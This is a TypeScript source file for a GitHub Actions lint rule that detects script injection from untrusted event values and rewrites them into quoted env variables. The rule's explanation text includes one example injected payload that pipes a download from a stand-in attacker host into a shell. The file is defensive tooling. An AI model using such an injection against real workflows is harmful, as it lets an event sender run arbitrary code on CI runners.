import { TokenType } from '@actions/expressions/lexer'
import { isMap, isScalar } from 'yaml'
import { wordSet } from '../../wire/words.ts'
import { expressionSpans } from '../../workflow/expressions.ts'
import { expressionTokens } from '../../workflow/file-expressions.ts'
import { childOf, entriesOf, type Place, textAt } from '../../workflow/nodes.ts'
import type { Operation } from '../../workflow/operations.ts'
import { type Edit, singleQuoted } from '../../workflow/spans.ts'
import { isPosixScript } from '../../workflow/steps.ts'
import { pairKey, pairsOf } from '../../workflow/yaml.ts'
import type { Rule, RuleFile } from '../rule.ts'
import { isRunningInput } from '../running-inputs.ts'
import { greet } from './example-workflows.ts'

export const scriptInjection: Rule = {
  id: 'script-injection',
  level: 'strict',
  page: {
    title: 'a value of the event that is written into what is executed',
    reason:
      'GitHub replaces `${{ }}` in a script before the shell reads it, so the sender of an event can write a part of the script: `"; curl evil.example | sh; "`. `check` reports expressions with outputs of the action in `run`, `shell`, `working-directory` and inputs that run their value. `check` does not follow a value through shells and files; [zizmor](https://docs.zizmor.sh) finds more.',
    remedy:
      'Set a variable under `env:`, and use it in quotes. `--fix` sets the variable if it is certainly an argument of `echo`. The variable is in quotes, so `echo` then prints white space and `*` as the sender wrote them.',
    before: `- run: echo "\${{ fromJSON(needs.on.outputs.on || '{}').webhook.outputs.body.hello }}" >> "$GITHUB_STEP_SUMMARY"`,
    after: `- env:
    NAME: \${{ fromJSON(needs.on.outputs.on || '{}').webhook.outputs.body.hello }}
  run: echo "$NAME" >> "$GITHUB_STEP_SUMMARY"`,
    workflow: greet,
  },
  check: (file) =>
    untrustedInputs(file, isRunningInput).map(({ expression, key }) => {
      const message = `untrusted input in "${key}": the sender controls what runs`
      const hint = hintFor(key)
      return file.problemAt(expression, undefined, { message, hint })
    }),
  fix: fixScripts,
}

/** No shell reads the variables of `env:` in a folder or in the name of a shell. */
function hintFor(key: string): string {
  if (key === 'working-directory') {
    return 'remove this key: set DIR under "env:", check its value in the script, and run: cd -- "$DIR"'
  }
  if (key === 'shell') return 'write the name of the shell here, without an expression'
  return 'set a variable under "env:", and read the variable here'
}

const KEYS_OF_STEPS = ['run', 'shell', 'working-directory']

/**
 * Expressions with a value of the sender, each in a key of a step that uses the value as more than data.
 *
 * @param isSink whether an input of an action is of the kind that is asked for
 */
export function untrustedInputs(file: RuleFile, isSink: (uses: string, input: string) => boolean) {
  return file.typed.flatMap(({ expression, shape }) => {
    const { path } = expression
    const isText = shape.kind === 'text' || shape.kind === 'any' || shape.kind === 'object'
    // The compiler moves `defaults` of a source into its jobs.
    if (!shape.isUntrusted || !isText || (path[0] !== 'jobs' && path[0] !== 'defaults')) return []
    const key = String(path.at(-1))
    const inWith = path.at(-2) === 'with' && path[2] === 'steps'
    const at = path.slice(0, -2).join()
    const step = inWith ? file.steps.find(({ place }) => place.path.join() === at) : undefined
    const isRun =
      KEYS_OF_STEPS.includes(key) &&
      [path[0], path[2]].some((one) => one === 'steps' || one === 'defaults')
    const isFound = inWith
      ? isSink(step?.uses ?? '', key.toLowerCase())
      : isRun && isSink('', 'run')
    return isFound ? [{ expression, key }] : []
  })
}

/** Moves values of the event from scripts of the file into `env:`. */
function fixScripts(file: RuleFile): Operation[] {
  const found = new Set(
    untrustedInputs(file, isRunningInput).map(({ expression }) => expression.text),
  )
  if (found.size === 0) return []
  return file.jobs.flatMap((job) =>
    job.steps.flatMap(({ place: step }) => {
      const run = textAt(childOf(step, 'run'))
      const isShared = run === undefined || run.isShared || step.isShared
      if (isShared || !isPosixScript(file.top, job.value, step)) return []
      const names = new VariableNames([file.top, job.value, step], run.node.value)
      const edits = printedValues(run.node.value, (text) => found.has(text), names)
      if (edits.length === 0) return []
      const rewritten = { op: 'rewriteText', path: run.path, edits } as const
      if (names.variables.length === 0) return [rewritten]
      const env = envOperation(step, names.variables)
      return env ? [rewritten, env] : []
    }),
  )
}

/**
 * A part of a word: a string in double or single quotes, or one character; an expression has become `\0`.
 * With one character there is one way to match a word, so that no word makes the patterns slow.
 */
const WORD = /"(?:[^"\\`$!]|\$[A-Za-z_]\w*)*"|'[^'!]*'|[\w./:=,@%+-]|\0/
const WORDS = new RegExp(`(?:${WORD.source})+`)
/** `echo` with words that are data, whose output goes to the log or to the job summary. */
const PRINTING = new RegExp(
  `^\\s*echo(?: +${WORDS.source})*(?: *>>? *"?\\$\\{?GITHUB_STEP_SUMMARY\\}?"?)? *$`,
)
/** A line after which the shell reads the next line from its beginning, with no command of its own. */
const SIMPLE = new RegExp(`^\\s*(?:#[^\\0]*|(?! )(?:${WORD.source}| )*)$`)

/**
 * The edits that replace expressions by variables: only in a script in which each line is a command of
 * plain words, and only as an argument of `echo`. For every other script, a person has to decide.
 */
function printedValues(
  script: string,
  isFound: (expression: string) => boolean,
  names: VariableNames,
): Edit[] {
  const spans = expressionSpans(script)
  const braces = spans.map(({ start, end }) => ({ start: start - 3, end: end + 2 }))
  let masked = script
  for (const { start, end } of braces) {
    masked = masked.slice(0, start) + '\0'.repeat(end - start) + masked.slice(end)
  }
  const lines = masked.split('\n')
  const isCertain = lines.every((line) => {
    const short = line.replaceAll(/\0+/g, '\0')
    return (
      PRINTING.test(short) || (SIMPLE.test(short) && !/\b(?:alias|eval|exec|set)\b/.test(short))
    )
  })
  if (!isCertain) return []
  return braces.flatMap(({ start, end }, at) => {
    const span = spans[at]
    const text = span ? script.slice(span.start, span.end) : ''
    const lineStart = masked.lastIndexOf('\n', start) + 1
    const before = masked.slice(lineStart, start)
    const isComputedEnv = /\benv\b/i.test(text) && !/^\s*env\.[\w-]+\s*$/i.test(text)
    if (!isFound(text) || isComputedEnv || !/^\s*echo /.test(before)) return []
    const quote = quoteAfter(before)
    const variable = `\${${names.of(text.trim())}}`
    const written = { '"': variable, "'": `'"${variable}"'`, '': `"${variable}"` }[quote]
    return [{ start, end, text: written }]
  })
}

function quoteAfter(text: string): '"' | "'" | '' {
  const open = /^(?:[^"']|"[^"]*"|'[^']*')*(["'])?/.exec(text)?.[1]
  return open === '"' || open === "'" ? open : ''
}

/** Words that do not describe a value. */
const GENERIC = wordSet('on outputs github event tojson fromjson format join')

/** Names for the variables of a step: one for each value, and none that is in use. */
class VariableNames {
  readonly #names = new Map<string, string>()
  /** The variables that the step already has, by their names in lower case. */
  readonly #declared: ReadonlyMap<string, string>
  readonly #taken: Set<string>

  constructor(places: readonly Place[], script: string) {
    const env = places.flatMap((place) => entriesOf(childOf(place, 'env')))
    this.#declared = new Map(env.map(({ name }) => [name.toLowerCase(), name]))
    this.#taken = new Set([...env.map(({ name }) => name), ...(script.match(/\w+/g) ?? [])])
  }

  get variables(): { readonly name: string; readonly expression: string }[] {
    return [...this.#names].map(([expression, name]) => ({ name, expression }))
  }

  /** `on.webhook.outputs.body.title` → `WEBHOOK_BODY_TITLE`. */
  of(expression: string): string {
    // A value of the context `env` already is a variable of the step.
    const [, own = ''] = /^env\.([\w-]+)$/i.exec(expression) ?? []
    const declared = this.#declared.get(own.toLowerCase())
    if (declared !== undefined) return declared
    const name =
      this.#names.get(expression) ?? this.#free(wordsOf(expression).join('_').slice(0, 60))
    this.#names.set(expression, name)
    this.#taken.add(name)
    return name
  }

  #free(name: string): string {
    for (let count = 1; ; count++) {
      const candidate = count === 1 ? name : `${name}_${count}`
      if (!this.#taken.has(candidate)) return candidate
    }
  }
}

function wordsOf(expression: string): string[] {
  const words = expressionTokens(expression)
    .filter(({ type }) => type === TokenType.IDENTIFIER || type === TokenType.STRING)
    .map(({ lexeme }) => lexeme.replaceAll(/[^A-Za-z0-9]+/g, '_').replaceAll(/^_+|_+$/g, ''))
    .filter((word) => word !== '' && !GENERIC.has(word.toLowerCase()))
    .slice(0, 4)
    .map((word) => word.toUpperCase())
  // Without a first word of its own, the name could be PATH or GIT_DIR.
  return words[0] === 'WEBHOOK' || words[0] === 'NEEDS' || words[0] === 'STEPS'
    ? words
    : ['EVENT', ...words]
}

/**
 * Adds variables to the `env:` of a step, or adds an `env:` after its script.
 *
 * @returns `undefined` for a step in braces, and for an `env:` that is an expression or an alias
 */
function envOperation(step: Place, variables: VariableNames['variables']): Operation | undefined {
  if (!isMap(step.node) || step.node.flow) return undefined
  const names = pairsOf(step.node).map(pairKey)
  const script = names.findLast((name) => ['run', 'with'].includes(name))
  const env = childOf(step, 'env')
  if (script === undefined) return undefined
  if (env) {
    const isEmpty = env.node === null || (isScalar(env.node) && env.node.value === null)
    if (env.isShared || !(isEmpty || isMap(env.node))) return undefined
  }
  const lines = variables.map(({ name, expression }) => {
    const value = `\${{ ${expression.replaceAll(/\s*[\r\n]\s*/g, ' ')} }}`
    return `${name}: ${/: | #/.test(value) ? singleQuoted(value) : value}`
  })
  return {
    op: 'insert',
    path: [...step.path, 'env'],
    lines,
    where: 'first',
    parent: { after: script },
  }
}
